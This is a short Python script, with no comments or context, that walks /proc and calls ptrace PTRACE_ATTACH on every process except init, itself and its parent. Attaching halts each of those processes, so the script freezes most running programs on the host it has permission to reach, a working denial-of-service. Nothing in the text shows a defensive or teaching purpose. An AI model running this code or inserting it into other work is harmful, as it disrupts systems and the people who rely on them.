import ctypes
import glob
import os

PTRACE_ATTACH = 16
for folder in glob.glob("/proc/[0-9]*"):
    number = int(folder.rpartition("/")[2])
    if number not in (1, os.getpid(), os.getppid()):
        ctypes.CDLL(None).ptrace(PTRACE_ATTACH, number, 0, 0)
